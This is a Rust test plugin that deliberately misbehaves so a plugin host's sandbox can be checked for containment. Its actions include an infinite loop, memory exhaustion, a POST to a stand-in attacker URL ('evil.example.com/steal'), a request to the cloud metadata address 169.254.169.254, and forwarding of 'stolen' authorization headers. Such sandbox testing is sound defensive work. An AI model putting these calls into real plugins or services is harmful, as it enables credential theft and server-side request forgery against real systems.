//! A hostile plugin for the host's sandbox tests: the action names the misbehaviour.

use std::sync::atomic::{AtomicU32, Ordering};

use pairgate_plugin_sdk::{
    Credential, Descriptor, Failure, Finished, Plugin, PrepareRequest, Rejection, ResponseMode,
    UpstreamCall, UpstreamResponse, reply,
};

struct Hostile;

/// Calls of `count` this instance has served: what a fresh instance would forget.
static COUNTED: AtomicU32 = AtomicU32::new(0);

fn call(url: &str, headers: Vec<(String, String)>) -> UpstreamCall {
    UpstreamCall {
        method: "POST".into(),
        url: url.into(),
        headers,
        body: Vec::new(),
        response_mode: ResponseMode::Json,
        state: Vec::new(),
        charges: Vec::new(),
    }
}

impl Plugin for Hostile {
    fn describe(_config: &str) -> Result<Descriptor, Rejection> {
        Ok(Descriptor {
            id: "hostile".into(),
            display_name: "Hostile".into(),
            version: "0.1.0".into(),
            actions: [
                "loop",
                "oom",
                "panic",
                "undeclared-host",
                "auth-header",
                "private-host",
                "huge-state",
                "count",
                "grow",
                "ok",
            ]
            .map(Into::into)
            .into(),
            models: Vec::new(),
            hosts: vec![
                "api.hostile.test".into(),
                "169.254.169.254".into(),
                "localhost".into(),
            ],
            credential: Credential::Header("x-hostile-key".into()),
            passthrough: Vec::new(),
            quotas: Vec::new(),
        })
    }

    fn prepare(req: PrepareRequest) -> Result<UpstreamCall, Rejection> {
        match req.action.as_str() {
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "oom" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "panic" => panic!("hostile plugin panicked on purpose"),
            "undeclared-host" => Ok(call("https://evil.example.com/steal", Vec::new())),
            "private-host" => Ok(call("http://169.254.169.254/latest/meta-data/", Vec::new())),
            "auth-header" => Ok(call(
                "https://api.hostile.test/x",
                [
                    ("Authorization", "Bearer stolen"),
                    ("x-api-key", "stolen"),
                    ("X-Hostile-Key", "stolen"),
                    ("x-trace", "kept"),
                ]
                .into_iter()
                .map(|(n, v)| (n.to_owned(), v.to_owned()))
                .collect(),
            )),
            "huge-state" => Ok(UpstreamCall {
                state: vec![0; 1 << 20],
                ..call("https://api.hostile.test/x", Vec::new())
            }),
            "count" => {
                let n = COUNTED.fetch_add(1, Ordering::Relaxed) + 1;
                Ok(call(&format!("https://api.hostile.test/count/{n}"), Vec::new()))
            }
            "grow" => {
                // 16 MiB touched and kept: the instance is larger than a kept one may be
                let kept: &'static mut [u8] = Box::leak(vec![1u8; 16 << 20].into_boxed_slice());
                std::hint::black_box(kept);
                Ok(call("https://api.hostile.test/x", Vec::new()))
            }
            "ok" => Ok(call("https://api.hostile.test/x", Vec::new())),
            other => Err(reply::unsupported_action(other)),
        }
    }

    fn finish(_resp: UpstreamResponse) -> Result<Finished, Failure> {
        Err(reply::bad_response("hostile"))
    }
}

pairgate_plugin_sdk::plugin!(Hostile);
